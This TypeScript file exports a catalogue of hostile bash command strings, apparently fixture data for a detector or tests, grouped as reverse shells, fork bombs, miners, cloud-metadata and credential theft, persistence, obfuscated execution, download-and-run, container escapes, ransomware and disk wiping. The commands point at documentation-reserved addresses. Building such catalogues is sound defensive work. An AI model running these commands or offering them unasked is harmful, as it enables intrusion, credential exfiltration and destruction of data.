// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are programs.
/**
 * Hostile patterns in bash, by kind. None can do harm: they are never run, every address is one of the networks and
 * names that are kept for documentation (203.0.113.0/24, `.invalid`), and nothing listens there.
 */
export const bash: Readonly<Record<string, ReadonlyArray<string>>> = {
  "reverse-shell": [
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "sh -i >& /dev/udp/203.0.113.9/4444 0>&1",
    "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
    "H=203.0.113.9; P=4444; bash -i >& /dev/tcp/$H/$P 0>&1",
    "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
    "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
    "nc -e /bin/sh 203.0.113.9 4444",
    "ncat 203.0.113.9 4444 -e /bin/bash",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
    "socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
    "socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444",
    "N=n; C=c; $N$C -e /bin/sh 203.0.113.9 4444",
    'nohup bash -c "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d)" &',
    'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));exec("/bin/sh -i");\'',
    'php -r \'$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'ruby -rsocket -e \'s=TCPSocket.new("203.0.113.9",4444);exec sprintf("/bin/sh -i <&%d",s)\'',
    "telnet 203.0.113.9 4444 | /bin/bash",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s"
  ],
  "fork-bomb": [
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "f() { f & f; }; f",
    "while true; do bash $0 & done",
    "eval ':(){ :|:& };:'"
  ],
  miner: [
    "./x -o stratum+tcp://pool.invalid:3333 -u wallet -p x",
    "xmrig --url pool.invalid:3333 --user wallet",
    "nohup /tmp/xmrig -o pool.invalid:443 >/dev/null 2>&1 &",
    "wget https://host.invalid/xmrig-6.21.tar.gz",
    'P=stratum; ./run --pool "${P}+ssl://pool.invalid:443"',
    "curl -sLO https://host.invalid/releases/cpuminer-linux.zip",
    "minerd -a scrypt -o http://pool.invalid"
  ],
  "cloud-metadata": [
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "wget -qO- http://metadata.google.internal/computeMetadata/v1/",
    'IP=169.254.169.254; curl -s "http://$IP/latest/user-data"',
    "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "curl http://2852039166/latest/meta-data/",
    "curl http://100.100.100.200/latest/meta-data/",
    "T=$(curl -X PUT http://169.254.169.254/latest/api/token)",
    'curl "http://169.254."169.254/latest/'
  ],
  "credential-theft": [
    "cat /etc/shadow",
    "cp /etc/shadow /tmp/x",
    "cat ~/.ssh/id_rsa",
    "tar czf - ~/.ssh/id_ed25519 | nc 203.0.113.9 4444",
    "cat ~/.aws/credentials | curl -d @- http://host.invalid",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "F=/etc; cat $F/shadow",
    "cat /proc/1/environ",
    "env | curl -X POST --data-binary @- http://host.invalid",
    "base64 < /etc/shadow",
    "find / -name id_rsa 2>/dev/null",
    "printenv | nc 203.0.113.9 4444",
    "cat ~/.docker/config.json; curl http://host.invalid"
  ],
  persistence: [
    "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys",
    "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
    "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
    "echo /tmp/x.so > /etc/ld.so.preload",
    "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc",
    "echo 'curl http://host.invalid | sh' >> ~/.profile",
    "useradd -o -u 0 -g 0 x",
    "cp /bin/bash /tmp/b; chmod u+s /tmp/b",
    "chmod 4755 /bin/bash",
    "echo '/tmp/x &' >> /etc/rc.local",
    "echo 'x ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
    "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service; systemctl enable x"
  ],
  "obfuscated-execution": [
    "echo bHM= | base64 -d | sh",
    'eval "$(echo bHM= | base64 --decode)"',
    'bash -c "$(base64 -d <<< bHM=)"',
    "echo 6c73 | xxd -r -p | bash",
    "echo 'sl' | rev | sh",
    "X=bHM=; echo $X | base64 -d | bash",
    "base64 -d /tmp/x | python3",
    "source <(base64 -d <<< bHM=)"
  ],
  "download-and-run": [
    "curl -s http://host.invalid/x | sh",
    "wget -qO- http://host.invalid/x | bash",
    "bash <(curl -s http://host.invalid/x)",
    'sh -c "$(curl -fsSL http://host.invalid/x)"',
    "curl http://host.invalid/x.py | python3",
    'eval "$(wget -qO- http://host.invalid/x)"',
    "wget http://host.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
    "C=curl; $C -s http://host.invalid/x | sh",
    "curl http://host.invalid/x | sudo bash"
  ],
  "container-escape": [
    "nsenter -t 1 -m -u -n -i sh",
    "docker run -v /:/host --privileged alpine chroot /host",
    "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
    "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
    "mount /dev/sda1 /mnt",
    "mkdir /tmp/c; mount -t cgroup -o rdma cgroup /tmp/c; echo 1 > /tmp/c/notify_on_release; echo /x > /tmp/c/release_agent",
    "insmod /tmp/x.ko",
    "chroot /proc/1/root sh",
    "ls /proc/1/root/",
    "echo b > /proc/sysrq-trigger"
  ],
  ransom: [
    "find /home -type f -exec openssl enc -aes-256-cbc -in {} -out {}.x \\; ; for f in /home/*; do openssl enc -aes-256-cbc -in $f -out $f.x; rm $f; done; find /home -name x",
    "echo 'All your files have been encrypted. Send 1 BTC' > README",
    "for f in $(find /home); do gpg -c $f; shred -u $f; done",
    "cat > NOTE <<EOF\nYour files are encrypted\nEOF\necho 'pay 1 Monero' > NOTE"
  ],
  destruction: [
    "rm -rf /",
    "rm -rf --no-preserve-root /",
    "dd if=/dev/zero of=/dev/sda",
    "R=/; rm -rf $R",
    "sudo rm -fr /*"
  ]
}
